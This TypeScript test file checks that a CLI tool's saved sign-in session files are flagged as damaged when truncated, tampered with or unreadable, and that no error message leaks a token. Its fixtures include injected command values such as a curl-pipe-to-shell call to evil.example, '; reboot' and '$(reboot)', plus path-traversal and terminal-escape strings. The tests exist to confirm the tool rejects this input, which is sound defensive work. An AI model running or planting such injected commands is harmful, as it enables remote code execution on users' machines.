// Files of saved sign-ins that something has happened to: each is told apart, nothing crashes, and no message holds a secret.
import { mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { createRedactor } from "../../../src/cloud/redaction.js";
import { readSessionFile } from "../../../src/cloud/sign-in/session-file.js";
import { SignInError } from "../../../src/shapes/errors.js";
import { caught } from "../../support/caught.js";
import { placesWith } from "../../support/cli-canaries.js";
import {
  GRAPH,
  memoryKeyring,
  msal,
  noKeyring,
  ScriptedLogin,
  SESSION,
  signedIn,
  silently,
  storeIn,
  type TestKeyring,
  tokensRead,
} from "../../support/saved-sign-in.js";
import { temporaryFolder } from "../../support/temporary-folder.js";

const REFRESH_TOKEN = "refresh-a1";
let tokens = "";

beforeAll(async () => {
  tokens = await signedIn();
});

interface Saved {
  readonly dir: string;
  readonly file: string;
  readonly keyring: TestKeyring;
  readonly text: string;
}

async function saved(keyring = memoryKeyring()): Promise<Saved> {
  const dir = temporaryFolder();
  await storeIn(dir, { keyring }).save(SESSION, tokens);
  const folder = path.join(dir, "sessions");
  const file = path.join(folder, readdirSync(folder)[0] ?? "");
  return { dir, file, keyring, text: readFileSync(file, "utf8") };
}

/** What a command is told that wants a token of it. */
async function refusalOf({ dir, keyring }: Saved): Promise<SignInError> {
  const redactor = createRedactor();
  const application = msal(new ScriptedLogin("b"), storeIn(dir, { keyring, redactor }).pluginFor(SESSION));
  const refusal = await caught(SignInError, silently(application, GRAPH));
  // Not by way of the redactor: nothing may be in there in the first place.
  const told = {
    message: refusal.message,
    remedy: refusal.remedy,
    stack: refusal.stack ?? "",
    cause: String(refusal.cause),
  };
  for (const secret of [
    REFRESH_TOKEN,
    "access-a1",
    ...[...keyring.keys.values()].map((key) => Buffer.from(key).toString("hex")),
  ])
    expect(placesWith(secret, told)).toEqual([]);
  return refusal;
}

/** The file is told to be damaged by everything that looks, and a new sign-in takes its place. */
async function expectDamaged(saving: Saved, reason: string): Promise<void> {
  const { dir, file, keyring } = saving;
  expect(await storeIn(dir, { keyring }).list()).toEqual({ sessions: [], damaged: [{ file, reason }] });
  const refusal = await refusalOf(saving);
  expect(refusal.code).toBe("session-damaged");
  expect(refusal.message).toBe(`The saved sign-in in ${file} cannot be used: ${reason}.`);
  expect(refusal.remedy).toBe(
    `Sign in again: aadc-cloud login --tenant ${SESSION.tenantId} --client-id ${SESSION.clientId}`,
  );
  expect((await caught(SignInError, storeIn(dir).protectionOf(SESSION))).message).toBe(refusal.message);
  await storeIn(dir, { keyring }).save(SESSION, tokens);
  expect(await storeIn(dir, { keyring }).list()).toEqual({ sessions: [SESSION], damaged: [] });
}

const CUT = "it is cut short, or is not JSON";

for (const [how, keyring] of [
  ["sealed", memoryKeyring],
  ["plain", noKeyring],
] as const)
  describe(how, () => {
    test("cut at any length it is damaged, or whole", async () => {
      const { file, text } = await saved(keyring());
      const bytes = Buffer.from(text);
      for (let length = 0; length < bytes.length - 1; length += length < 40 || length > bytes.length - 40 ? 1 : 23) {
        writeFileSync(file, bytes.subarray(0, length));
        expect(readSessionFile(file), `cut to ${length} bytes`).toEqual({ kind: "damaged", reason: CUT });
      }
      writeFileSync(file, bytes.subarray(0, -1));
      expect(readSessionFile(file).kind, "only the last line end is missing").toBe("whole");
    });

    test("a mark and the line ends of Windows do no harm", async () => {
      const { dir, file, text, keyring: used } = await saved(keyring());
      writeFileSync(file, `\uFEFF${text.replaceAll("\n", "\r\n")}`);
      const application = msal(new ScriptedLogin("b"), storeIn(dir, { keyring: used }).pluginFor(SESSION));
      expect(await silently(application, GRAPH)).toMatch(/^access-a1/);
    });

    for (const [what, change, reason] of [
      ["emptied", () => "", CUT],
      ["of zeros, as after a power cut", (text: string) => "\0".repeat(text.length), CUT],
      ["half another one", (text: string) => `${text}${text}`, CUT],
      [
        "of bytes that are no text",
        (text: string) => text.replace("browser", "\uFFFD"),
        "its session.kind is not as it must be",
      ],
      ["a list", () => "[]", "it does not say that it is a saved sign-in"],
      ["null", () => "null", "it does not say that it is a saved sign-in"],
      [
        "of another program",
        (text: string) => text.replace("aadc-cloud/session@1", "other"),
        "it does not say that it is a saved sign-in",
      ],
      [
        "of a later version",
        (text: string) => text.replace("session@1", "session@2"),
        "another version of this program has written it",
      ],
      [
        "of another cipher",
        (text: string) => text.replace(/"cipher": "[^"]+"/, '"cipher": "rot13"'),
        "its tokens.cipher is not as it must be",
      ],
      [
        "with more than is known",
        (text: string) => text.replace('"session": {', '"session": {"admin": true,'),
        "its session is not as it must be",
      ],
      [
        "without its user",
        (text: string) => text.replace(/"userName": "[^"]+",/, ""),
        "its session.userName is not as it must be",
      ],
      [
        "with a command for a tenant",
        (text: string) => text.replace(SESSION.tenantId, "x; reboot"),
        "its session.tenantId is not as it must be",
      ],
      [
        "with a command for a name of the tenant",
        (text: string) => text.replace('"contoso.example"', '"evil.example; curl http://evil.example | sh #"'),
        "its session.tenantNames.0 is not as it must be",
      ],
      [
        "with a folder for a name of the tenant",
        (text: string) => text.replace('"contoso.example"', '"contoso..example"'),
        "its session.tenantNames.0 is not as it must be",
      ],
      [
        "another client's by its content",
        (text: string) => text.replace(SESSION.clientId, SESSION.tenantId),
        "it has the name of another sign-in",
      ],
      ["as long as a film", (text: string) => text.padEnd(5_000_000), "it is far too long"],
    ] as const)
      test(`${what}: damaged`, async () => {
        const saving = await saved(keyring());
        writeFileSync(saving.file, change(saving.text));
        await expectDamaged(saving, reason);
      });
  });

test("a copy under another name is damaged", async () => {
  const { dir, file, text } = await saved();
  const copy = path.join(path.dirname(file), `${"f".repeat(24)}.json`);
  writeFileSync(copy, text);
  expect(await storeIn(dir).list()).toEqual({
    sessions: [SESSION],
    damaged: [{ file: copy, reason: "it has the name of another sign-in" }],
  });
});

test("a folder in its place is damaged, and one in place of all of them, too", async () => {
  const { dir, file } = await saved();
  renameSync(file, `${file}.away`);
  mkdirSync(file);
  expect((await storeIn(dir).list()).damaged).toEqual([{ file, reason: "it is not a file" }]);

  const other = temporaryFolder();
  const folder = path.join(other, "sessions");
  writeFileSync(folder, "");
  const { sessions, damaged } = await storeIn(other).list();
  expect(sessions).toEqual([]);
  expect(damaged).toMatchObject([{ file: folder, reason: expect.stringContaining("ENOTDIR") as string }]);
});

for (const [what, change] of [
  ["the user's name", (text: string) => text.replace("adele@contoso.example", "admin@contoso.example")],
  ["the tenant's name", (text: string) => text.replace('"contoso.example"', '"fabrikam.example"')],
  ["the account", (text: string) => text.replace("44444444-4444", "44444444-5555")],
  ["the time", (text: string) => text.replace("2026-11-22T10", "2026-11-29T10")],
  ["the kind", (text: string) => text.replace('"browser"', '"device-code"')],
  ["the tag", (text: string) => text.replace(/"tag": "[^"]+"/, `"tag": "${"A".repeat(22)}=="`)],
  ["the tokens", (text: string) => text.replace(/"data": "..../, '"data": "AAAA')],
] as const)
  test(`sealed tokens do not open when ${what} was altered`, async () => {
    const saving = await saved();
    const altered = change(saving.text);
    expect(altered).not.toBe(saving.text);
    writeFileSync(saving.file, altered);
    const { sessions } = await storeIn(saving.dir).list();
    expect(sessions, "a listing reads no token").toHaveLength(1);
    const [session = SESSION] = sessions;
    const refusal = await caught(SignInError, tokensRead(storeIn(saving.dir, { keyring: saving.keyring }), session));
    expect(refusal.code).toBe("session-damaged");
    expect(refusal.message).toContain("its tokens are encrypted with another key, or were altered");
  });

test("sealed tokens of another session do not open", async () => {
  const one = await saved();
  const other = { ...SESSION, clientId: "55555555-5555-4555-8555-555555555555" };
  const store = storeIn(one.dir, { keyring: one.keyring });
  await store.save(other, tokens);
  const names = readdirSync(path.dirname(one.file)).map((name) => path.join(path.dirname(one.file), name));
  const theirs = JSON.parse(readFileSync(names.find((name) => name !== one.file) ?? "", "utf8")) as { tokens: object };
  writeFileSync(one.file, JSON.stringify({ ...JSON.parse(one.text), tokens: theirs.tokens }));
  expect((await refusalOf(one)).message).toContain("its tokens are encrypted with another key, or were altered");
});

test("another key does not open them", async () => {
  const saving = await saved();
  for (const id of saving.keyring.keys.keys()) saving.keyring.keys.set(id, new Uint8Array(32));
  expect((await refusalOf(saving)).message).toContain("its tokens are encrypted with another key, or were altered");
});

test("a keyring that is gone later, and one without the key, are told", async () => {
  const saving = await saved();
  saving.keyring.refusal = "the system's keyring has not answered within 5 seconds";
  expect((await refusalOf(saving)).message).toContain(
    "its tokens are encrypted, and the system's keyring has not answered within 5 seconds",
  );
  expect((await refusalOf(saving)).remedy).toBe(
    `Make the keyring available and run the same command again, or sign in again: aadc-cloud login --tenant ${SESSION.tenantId} --client-id ${SESSION.clientId}`,
  );
  saving.keyring.refusal = undefined;
  saving.keyring.keys.clear();
  const refusal = await refusalOf(saving);
  expect(refusal.code).toBe("session-damaged");
  expect(refusal.message).toContain("its tokens are encrypted, and the system's keyring no longer has its key");
});

for (const [what, data] of [
  ["no JSON", `${REFRESH_TOKEN}, and so on`],
  ["JSON of another form", JSON.stringify({ RefreshToken: REFRESH_TOKEN })],
  ["a secret that is no text", JSON.stringify({ RefreshToken: { a: { secret: [REFRESH_TOKEN] } } })],
] as const)
  test(`plain tokens that are ${what} are told, and not quoted`, async () => {
    const saving = await saved(noKeyring());
    const content = JSON.parse(saving.text) as { tokens: object };
    writeFileSync(saving.file, JSON.stringify({ ...content, tokens: { ...content.tokens, data } }));
    expect((await refusalOf(saving)).message).toContain("its tokens are not as MSAL writes them");
  });

test("a name that would do harm in a terminal stays out of messages, and names that no tenant can have are not kept", async () => {
  const dir = temporaryFolder();
  const hostile = {
    ...SESSION,
    userName: "\u001b]0;pwned\u0007 ../../etc/passwd \u202Egnp.exe",
    tenantNames: ["..\\..\\con", "müller.example", "__proto__", "\u0000", "$(reboot).example", "a b"],
  };
  const keyring = memoryKeyring();
  await storeIn(dir, { keyring }).save(hostile, tokens);
  expect((await storeIn(dir, { keyring }).list()).sessions).toEqual([{ ...hostile, tenantNames: ["müller.example"] }]);
  expect(readdirSync(path.join(dir, "sessions"))).toHaveLength(1);
  keyring.keys.clear();
  const application = msal(new ScriptedLogin("b"), storeIn(dir, { keyring }).pluginFor(hostile));
  const refusal = await caught(SignInError, silently(application, GRAPH));
  expect(`${refusal.message}${refusal.remedy}`).not.toMatch(/\p{Cc}|pwned|passwd/u);
});
